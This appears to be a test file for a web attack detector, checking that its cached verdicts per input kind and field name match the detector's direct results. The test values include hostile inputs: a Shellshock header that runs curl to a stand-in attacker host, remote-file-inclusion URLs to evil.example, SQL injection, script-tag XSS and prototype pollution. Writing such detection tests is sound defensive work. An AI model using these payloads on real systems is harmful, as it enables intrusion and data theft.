import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { ATTACK_CATEGORIES, detect, type InputKind, mayReadName } from './detect'
import { Scan, Verdicts } from './scan'

const options = { rules: new Set(ATTACK_CATEGORIES), paranoia: 1 as const }

describe('Scan with remembered verdicts', () => {
  // Values whose verdict differs by kind: `/.env` is a scanner probe as a path only, `() { :; };`
  // is Shellshock in a header, `__proto__` pollution as a name or header, not as a user agent.
  const values = [
    '/.env',
    '() { :; }; /bin/id',
    '__proto__',
    '/comments',
    'application/json',
    '<script>alert(1)</script>',
    "1' or '1'='1",
    'x'.repeat(70),
    `<script>${'x'.repeat(70)}`,
    // Header values and user agents are remembered up to 256 characters: a browser's, and
    // attacks of that length, fire (or not) the same the first time and when remembered.
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8',
    `() { :; }; /bin/bash -c 'curl http://attacker.example/${'a'.repeat(120)}'`,
    `sqlmap/1.8 (https://sqlmap.org) ${'b'.repeat(200)}`,
    `${'c'.repeat(250)}<script>`,
  ]
  const kinds: InputKind[] = ['name', 'path', 'header', 'user-agent', 'query']

  it('gives what detect() gives, for every kind, the first time and when remembered', () => {
    const verdicts = new Verdicts()
    for (let round = 0; round < 2; round++) {
      for (const kind of kinds) {
        for (const value of values) {
          const scan = new Scan(options, 1 << 16, verdicts)
          const fired = scan.check(value, kind, 'here')
          expect({ value, kind, hit: scan.hit?.category }).toEqual({
            value,
            kind,
            hit: detect(value, kind, options),
          })
          expect(fired).toBe(scan.hit !== undefined)
        }
      }
    }
  })

  it('keeps the verdicts of one kind apart from another’s', () => {
    const verdicts = new Verdicts()
    expect(verdicts.of('/.env', 'header', options)).toBe(detect('/.env', 'header', options))
    expect(verdicts.of('/.env', 'path', options)).toBe('scanner')
    expect(verdicts.of('/.env', 'header', options)).not.toBe('scanner')
  })

  it('still refuses once more values were seen than are remembered', () => {
    const verdicts = new Verdicts()
    for (let i = 0; i < 1500; i++) {
      expect(verdicts.of(`/page${i}`, 'path', options)).toBeUndefined()
      if (i % 100 === 0) expect(verdicts.of('/.env', 'path', options)).toBe('scanner')
    }
  })
})

describe('Scan with remembered verdicts on body values', () => {
  // A URL is remote file inclusion under a name for a server path (`include`) and nothing under
  // `homepage`: a verdict that read the name must be remembered under that name only.
  const values = [
    'http://evil.example/shell.txt',
    'https://example.com/a',
    'active',
    'EUR',
    "Siobhan O'Brien",
    "1' or '1'='1",
    '<script>alert(1)</script>',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '__proto__',
    'x'.repeat(70),
    // Sentences are remembered too (up to 256 characters), a URL among them with its name.
    'We met at the cafe and talked about the union of two teams; drop by any time. See https://example.com/a?b=1.',
    `http://evil.example/${'a'.repeat(90)}.txt`,
    `${'x'.repeat(70)}' or '1'='1`,
    `<script>${'x'.repeat(200)}`,
    `<script>${'x'.repeat(300)}`,
  ]
  const names = ['include', 'homepage', 'status', '_CONF[path]', 'mosConfig_absolute_path']

  it('gives what detect() gives under every name, however often a value comes', () => {
    const verdicts = new Verdicts()
    // Enough rounds for every value to be remembered (one unknown value in eight is).
    for (let round = 0; round < 12; round++) {
      for (const value of values) {
        for (const name of names) {
          const scan = new Scan(options, 1 << 16, verdicts)
          scan.body(value, 'body', () => 'here', name)
          expect({ value, name, hit: scan.hit?.category }).toEqual({
            value,
            name,
            hit: detect(value, 'body', options, name),
          })
        }
      }
    }
  })

  it('mayReadName: without its characters, the verdict is the same under any name (property)', () => {
    const unit = fc.constantFrom(
      ..."abcdefhilmnoprstx0123456789 .;:/?#='<>()%&\\-_@".split(''),
      'é',
    )
    const name = fc.constantFrom(
      undefined,
      'include',
      'file',
      'path',
      '_CONF[path]',
      'docroot',
      'url',
    )
    const kind = fc.constantFrom<InputKind>('body', 'query', 'cookie', 'name')
    // Values shaped like URLs too (`http://host/x`, or encoded), which rfi reads with their name.
    const url = fc
      .tuple(
        fc.constantFrom('http', 'https', 'ftp', 'htp'),
        fc.constantFrom(
          [':', '/'],
          ['%3a', '%2f'],
          ['&#58;', '&#47;'],
          ['\\x3a', '\\x2f'],
          ['\uff1a', '\uff0f'],
          ['\u0000:', '/'],
        ),
        fc.string({ unit, maxLength: 12 }),
      )
      .map(
        ([scheme, [colon, slash], rest]) =>
          `${scheme}${colon}${slash}${slash}example.org${slash}${rest}`,
      )
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit, maxLength: 40 }), url),
        name,
        kind,
        (value, under, k) => {
          if (mayReadName(value)) return
          expect(detect(value, k, options, under)).toBe(detect(value, k, options))
        },
      ),
      { numRuns: 3000 },
    )
    // The characters it asks about are needed: these verdicts do depend on the name.
    for (const url of ['http://evil.example/x', 'ftp://10.0.0.1/a', '//evil.example/x?']) {
      expect(mayReadName(url)).toBe(true)
    }
  })
})
